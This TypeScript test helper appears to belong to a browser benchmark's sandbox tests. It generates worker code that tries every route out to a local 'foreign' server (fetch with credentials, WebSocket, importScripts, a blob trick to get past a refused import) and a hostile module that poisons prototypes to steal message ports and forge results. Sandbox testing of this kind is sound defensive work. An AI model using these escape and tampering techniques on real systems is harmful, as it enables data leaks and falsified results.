import { once } from 'node:events';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { exact, honest, timed } from './bench-page.ts';

// What code in the sandbox tries in order to get out, the same in each browser.

/** Code that tells what an expression gives inside the worker: its result is thrown, and so stands in the page. */
export const asking = (expression: string): string =>
  timed(
    honest,
    `async () => { let it; try { it = await (async () => { ${expression} })(); } catch (error) { it = 'refused ' + error.name; } throw new Error('RESULT ' + it); }`,
  );

/** A server that nobody has a reason to ask for anything; `hits` has all that reached it, connections too. */
export async function foreignServer() {
  const hits: string[] = [];
  const server = createServer(({ url = '' }, response) => {
    hits.push(url);
    response.setHeader('access-control-allow-origin', '*').end('out');
  });
  server.on('upgrade', ({ url = '' }, socket) => {
    hits.push(url);
    socket.destroy();
  });
  server.on('connection', () => hits.push('connection'));
  await once(server.listen(0, '127.0.0.1'), 'listening');
  const host = `127.0.0.1:${(server.address() as AddressInfo).port}`;
  return { host, hits, close: () => server.close() };
}

/**
 * Code that tries all ways there are to reach these hosts, below `/leak/`, and tells in one word for each of the `count`
 * ways what came of it, `out` among them, short enough not to be cut. It tries them all at once, so that none is left when its time is over.
 */
export function waysOut(hosts: readonly string[]): { readonly code: string; readonly count: number } {
  const ways = hosts.flatMap((host) => [
    `await fetch('http://${host}/leak/fetch', { mode: 'no-cors' }); return 'out'`,
    `await fetch('http://${host}/leak/fetch', { credentials: 'include' }); return 'out'`,
    `return await new Promise((done) => { const it = new XMLHttpRequest(); it.onload = () => done('out'); it.onerror = () => done('no'); it.open('GET', 'http://${host}/leak/xhr'); it.send(); })`,
    `return await new Promise((done) => { const it = new WebSocket('ws://${host}/leak/ws'); it.onopen = () => done('out'); it.onerror = () => done('no'); })`,
    `return await new Promise((done) => { const it = new EventSource('http://${host}/leak/es'); it.onopen = () => done('out'); it.onerror = () => done('no'); })`,
    `importScripts('http://${host}/leak/scripts.js'); return 'out'`,
    // The word itself is refused before anything runs, so it comes in by a script of its own.
    `importScripts(URL.createObjectURL(new Blob(['self.load = (it) => import(it)']))); await load('http://${host}/leak/import.js'); return 'out'`,
    `await new Promise((done, fail) => { const it = new Worker('http://${host}/leak/worker.js'); it.onerror = fail; setTimeout(done, 300); }); return 'out'`,
    `navigator.sendBeacon?.('http://${host}/leak/beacon'); return typeof navigator.sendBeacon`,
    `return typeof RTCPeerConnection`,
  ]);
  const tries = ways.map((way) => `async () => { ${way} }`).join(',\n');
  const code = asking(
    `const told = [${tries}].map((way) => Promise.race([way(), new Promise((done) => setTimeout(() => done('late'), 400))]).catch(() => 'no')); return (await Promise.all(told)).join(' ')`,
  );
  return { code, count: ways.length };
}

/** The words that follow `RESULT` in what the page says of the code above. */
export const wordsTold = (text: string): readonly string[] => /RESULT (.*)/.exec(text)?.[1]?.trim().split(' ') ?? [];

/** Sums that are honest, in a module which tries all it can to hear the frame, to answer it, and to change what is said. */
export const lyingSums = `${exact(
  `({ way, size }) => ({ sum: globalThis.stolen ? 999 : way === 'for' ? size : size * 1.5 })`,
)}
const lie = { id: 1, values: { sum: 999 }, cause: 'left out', ms: 1e-9 };
const answer = (event) => { event.stopImmediatePropagation(); for (const port of event.ports) port.postMessage(lie); };
const { port1 } = new MessageChannel();
dispatchEvent(new MessageEvent('message', { ports: [port1] }));
addEventListener('message', answer, true);
onmessage = answer;
const getter = (of, name, get) => Object.defineProperty(of, name, { configurable: true, get });
getter(MessageEvent.prototype, 'ports', () => [port1]);
getter(MessageEvent.prototype, 'data', () => ({ id: 1, ask: 'sample', seed: 7 }));
Object.defineProperty(MessagePort.prototype, 'onmessage', { set() {} });
MessagePort.prototype.postMessage = function () { globalThis.stolen = this; };
Array.prototype[Symbol.iterator] = function* () { yield port1; };
Event.prototype.stopImmediatePropagation = () => {};
Function.prototype.bind = Function.prototype.call = Function.prototype.apply = () => () => 0;
Reflect.apply = () => 0;
getter(Object.prototype, 'then', function () { if ('values' in this) this.values = { sum: 999 }; });`;
